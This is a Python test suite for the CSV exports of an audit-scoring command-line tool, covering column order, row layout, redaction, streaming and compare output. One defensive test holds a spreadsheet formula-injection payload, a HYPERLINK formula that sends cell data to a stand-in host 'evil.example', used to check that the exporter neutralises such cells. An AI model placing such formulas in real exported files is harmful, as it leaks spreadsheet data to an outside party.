"""CSV exports: ``score --format csv [--by ...]`` and ``compare --format csv``.

RFC 4180 through the csv module, the documented columns in order, numbers as shown, text that a
spreadsheet would run as a formula defused, and rows written as each audit is scored.
"""

from __future__ import annotations

import csv
import io
import json
import re
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import Result
from hypothesis import given
from hypothesis import strategies as st

from auditor.render import csv_export
from auditor.render.csv_export import cell, compare_columns, score_columns
from auditor.view import AssessmentView
from tests.conftest import CHECKLISTS, EXAMPLES

Write = Callable[[str, str], Path]
Invoke = Callable[..., Result]
DOC = Path(__file__).resolve().parent.parent / "docs" / "exports.md"


def _rows(output: str | Result) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(_text(output), newline="")))


def _text(output: str | Result) -> str:
    """What was written, byte for byte (click's ``output`` turns CRLF into LF)."""
    return output if isinstance(output, str) else output.stdout_bytes.decode("utf-8")


def _audit(company: str = "Acme", date: str = "2026-01-15", **answers: str) -> str:
    given_answers = {
        "deploys": "{answer: ops}",
        "cycle": "{answer: 3}",
        "alerts": "{unknown: did-not-know}",
        "prod": "{answer: 2}",
        "dev": "{answer: 8}",
        **answers,
    }
    lines = "\n".join(f"  {k}: {v}" for k, v in given_answers.items())
    return (
        'checklist: {id: tiny, version: "1.0"}\nmode: self\n'
        f"company: {company}\nteam: Ranking\ndate: {date}\nrespondent: lead\n"
        f"answers:\n{lines}\n"
    )


# --- the documented columns ---------------------------------------------------------------------

_HEADING = re.compile(r"^### `(score|compare) --format csv(?: --by (\w+))?`")


def _documented() -> dict[str, list[str]]:
    """Table name (``score:audit``, ``compare``) -> its columns, in the order the page lists."""
    tables: dict[str, list[str]] = {}
    current = None
    for line in DOC.read_text(encoding="utf-8").splitlines():
        heading = _HEADING.match(line)
        if heading:
            command, by = heading.groups()
            current = command if command == "compare" else f"score:{by or 'audit'}"
            tables[current] = []
        elif line.startswith("## ") or line.startswith("### "):
            current = None
        elif current and (row := re.match(r"^\| `(\w+)` \|", line)):
            tables[current].append(row.group(1))
    return tables


def test_the_page_lists_every_column_in_order() -> None:
    documented = _documented()
    assert documented == {
        "score:audit": score_columns("audit"),
        "score:dimension": score_columns("dimension"),
        "score:question": score_columns("question"),
        "compare": compare_columns(),
    }


def test_score_help_names_every_column_of_the_audit_table(invoke: Invoke) -> None:
    shown = " ".join(invoke("score", "--help").output.split())
    listed = re.search(r"CSV \(--by audit\) has the columns (.*?); text that", shown)
    assert listed, shown
    assert listed.group(1).replace(" and ", ", ").split(", ") == score_columns("audit")


# --- score --------------------------------------------------------------------------------------


def test_one_row_per_audit_reads_as_the_json(invoke: Invoke) -> None:
    demo = EXAMPLES / "demo.yaml"
    result = invoke("score", demo, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert _text(result).startswith(",".join(score_columns("audit")) + "\r\n")
    (row,) = _rows(result)
    view = json.loads(invoke("score", demo, "--format", "json").output)
    assert row["file"] == str(demo)
    assert (row["company"], row["team"], row["respondent"]) == (
        "Acme Analytics",
        "Search Ranking",
        "hiring manager",
    )
    assert row["decision"] == view["decision"]["decision"] == "ask-more"
    assert row["headline"] == "Ask more before deciding: level 2, Automated training"
    assert (row["level"], row["band"], row["signal"]) == ("2", "Automated training", "amber")
    assert (row["score"], row["low"], row["high"], row["coverage_pct"]) == ("66", "63", "68", "95")
    assert (row["next_level"], row["to_next"]) == ("3", "")  # a cap holds the level
    assert (row["red_flags"], row["structural_red_flags"], row["open_questions"]) == ("2", "1", "3")
    assert row["reasons"].split("\n") == [r["text"] for r in view["decision"]["reasons"]]
    assert (
        row["ask_next"] == "How long do people wait for GPUs on the shared cluster at busy times?"
    )


def test_by_dimension_and_by_question_have_a_row_for_each(invoke: Invoke) -> None:
    audits = [EXAMPLES / "demo.yaml", EXAMPLES / "quillfeather-labs.yaml"]
    views = [json.loads(invoke("score", a, "--format", "json").output) for a in audits]
    dims = _rows(invoke("score", *audits, "--format", "csv", "--by", "dimension"))
    assert [(r["file"], r["dimension"], r["score"]) for r in dims] == [
        (str(a), d["id"], cell(d["score"]))
        for a, v in zip(audits, views, strict=True)
        for d in v["dimensions"]
    ]
    questions = _rows(invoke("score", *audits, "--format", "csv", "--by", "question"))
    expected = [
        (str(a), q["id"], q["status"], cell(q["score"]), q["note"] or "")
        for a, v in zip(audits, views, strict=True)
        for d in v["dimensions"]
        for q in d["questions"]
    ]
    assert [(r["file"], r["question"], r["status"], r["score"], r["note"]) for r in questions] == (
        expected
    )
    first = questions[0]
    assert (first["question"], first["value"], first["critical"]) == (
        "models-in-production",
        "5",
        "false",
    )


def test_redact_leaves_notes_and_names_out(invoke: Invoke) -> None:
    demo = EXAMPLES / "demo.yaml"
    plain = _rows(invoke("score", demo, "--format", "csv", "--by", "question"))
    assert any(r["note"] for r in plain)
    redacted = invoke("score", demo, "--format", "csv", "--by", "question", "--redact")
    assert all(r["note"] == "" for r in _rows(redacted))
    assert (
        "Priya" not in redacted.output
        and "Priya" in invoke("score", demo, "--format", "json").output
    )


def test_text_a_spreadsheet_would_run_gets_a_quote(write: Write, invoke: Invoke) -> None:
    audit = write(
        "evil.yaml",
        textwrap.dedent(
            """\
            checklist: {id: tiny, version: "1.0"}
            mode: self
            company: '=HYPERLINK("http://evil.example/?"&A1,"click")'
            team: "+1 team"
            role: "\\tTabbed"
            date: 2026-01-15
            respondent: "@lead"
            answers:
              deploys: {answer: ops, note: "-2+3"}
              cycle: {answer: 3, note: "\\r=1"}
              alerts: {answer: yes, note: 'a "quoted", comma, and
                line'}
            """
        ),
    )
    (row,) = _rows(invoke("score", audit, "--format", "csv", "--checklist-dir", CHECKLISTS))
    assert row["company"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert (row["team"], row["role"], row["respondent"]) == ("'+1 team", "'\tTabbed", "'@lead")
    notes = [
        r["note"]
        for r in _rows(
            invoke(
                "score", audit, "--format", "csv", "--by", "question", "--checklist-dir", CHECKLISTS
            )
        )
    ]
    assert notes[:3] == ["'-2+3", "'\r=1", 'a "quoted", comma, and line']


def test_a_negative_number_is_a_number(write: Write, invoke: Invoke) -> None:
    # A trend whose score drops: the change is written as the number it is, never as text.
    q1 = write("q1.yaml", _audit(date="2026-01-15", deploys="{answer: team}"))
    q2 = write("q2.yaml", _audit(date="2026-04-15", deploys="{answer: nobody}"))
    rows = _rows(invoke("compare", q1, q2, "--format", "csv", "--checklist-dir", CHECKLISTS))
    ship = [r for r in rows if r["dimension"] == "ship"]
    assert [r["since_previous"] for r in ship] == ["", "-50"]
    assert float(ship[1]["since_first"]) < 0


@given(st.text())
def test_no_text_cell_starts_like_a_formula(value: str) -> None:
    written = cell(value)
    assert not written.startswith(csv_export.FORMULA_STARTS)
    assert written in (value, "'" + value)


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_numbers_are_written_as_they_are(value: float) -> None:
    written = cell(value)
    assert (int(written) if isinstance(value, int) else float(written)) == value
    assert not written.startswith("'")


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_reads_back_as_written(values: list[str]) -> None:
    """RFC 4180 quoting: a comma, a quote or a line break never shifts a column."""
    stream = io.StringIO(newline="")
    csv.writer(stream).writerow([cell(v) for v in values])
    (back,) = csv.reader(io.StringIO(stream.getvalue(), newline=""))
    assert back == [cell(v) for v in values]


def test_rows_are_written_as_each_audit_arrives(invoke: Invoke) -> None:
    """The writer asks for the next view only after the previous audit's row is out."""
    view = json.loads(invoke("score", EXAMPLES / "demo.yaml", "--format", "json").output)
    stream = io.StringIO()
    seen: list[int] = []

    def views() -> Iterator[AssessmentView]:
        for index in range(3):
            seen.append(stream.getvalue().count("\r\n"))
            yield {**view, "file": f"audit-{index}.yaml"}

    csv_export.write_assessments_csv(views(), stream, "audit")
    assert seen == [1, 2, 3]  # header, then one row before each next audit is scored
    assert [r["file"] for r in _rows(stream.getvalue())] == [f"audit-{i}.yaml" for i in range(3)]


def test_a_bad_file_stops_the_run_before_any_row(write: Write, invoke: Invoke) -> None:
    good = write("good.yaml", _audit())
    bad = write("bad.yaml", _audit().replace("{answer: ops}", "{answer: sometimes}"))
    result = invoke("score", good, bad, "--format", "csv", "--checklist-dir", CHECKLISTS)
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.startswith(f"Error: {bad}:")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--by", "question"], "Error: --by chooses the rows of --format csv, not of text\n"),
        (
            ["--format", "md", "--by", "audit"],
            "Error: --by chooses the rows of --format csv, not of md\n",
        ),
        (
            ["--format", "csv", "--explain"],
            "Error: --explain is for the terminal summary; --format csv has no room for it "
            "(--format json has every step, under `explain`)\n",
        ),
    ],
)
def test_options_that_do_not_go_together_say_so(
    args: list[str], message: str, invoke: Invoke
) -> None:
    result = invoke("score", EXAMPLES / "demo.yaml", *args)
    assert (result.exit_code, result.stderr) == (1, message)


# --- compare ------------------------------------------------------------------------------------


def test_compare_has_a_row_per_audit_and_dimension_overall_first(invoke: Invoke) -> None:
    audits = sorted((EXAMPLES / "trend").glob("*.yaml"))
    result = invoke("compare", *audits, "--target", "3", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert _text(result).startswith(",".join(compare_columns()) + "\r\n")
    rows = _rows(result)
    data = json.loads(invoke("compare", *audits, "--target", "3", "--format", "json").output)
    ids = ["overall", *(d["id"] for d in data["dimensions"])]
    assert [(r["audit"], r["dimension"]) for r in rows] == [
        (a["label"], i) for a in data["audits"] for i in ids
    ]
    overall = [r for r in rows if r["dimension"] == "overall"]
    assert [r["decision"] for r in overall] == ["fix-first", "improve", "improve", "improve"]
    assert [r["score"] for r in overall] == ["16", "33", "45", "79"]
    assert [r["since_first"] for r in overall] == ["", "17", "29", "63"]
    assert [r["target_reached"] for r in overall] == ["false"] * 4
    assert {r["decision"] for r in rows if r["dimension"] != "overall"} == {""}


def test_side_by_side_says_who_leads(invoke: Invoke) -> None:
    audits = [EXAMPLES / "northwind-payments.yaml", EXAMPLES / "brightside-retail.yaml"]
    rows = _rows(invoke("compare", *audits, "--format", "csv"))
    overall = [(r["audit"], r["view"], r["lead"]) for r in rows if r["dimension"] == "overall"]
    assert overall == [
        ("Northwind Payments · Fraud & Risk ML", "side-by-side", "clearly-ahead"),
        ("Brightside Retail · Personalisation", "side-by-side", ""),
    ]


def test_by_question_marks_where_respondents_disagree(invoke: Invoke, tmp_path: Path) -> None:
    """A conflict blocks the decision: the per-question table says so, as the JSON does."""
    merged = tmp_path / "merged.yaml"
    files = sorted((EXAMPLES / "respondents").glob("*.yaml"))
    assert invoke("merge", *files, "-o", merged).exit_code == 0
    view = json.loads(invoke("score", merged, "--format", "json").output)
    expected = {
        d["question"]: "resolved" if d["resolved"] else "conflict" if d["conflict"] else "differs"
        for d in view["disagreements"]
    }
    rows = list(
        csv.DictReader(
            io.StringIO(invoke("score", merged, "--format", "csv", "--by", "question").output)
        )
    )
    marked = {r["question"]: r["disagreement"] for r in rows if r["disagreement"]}
    assert marked == expected and "conflict" in marked.values()
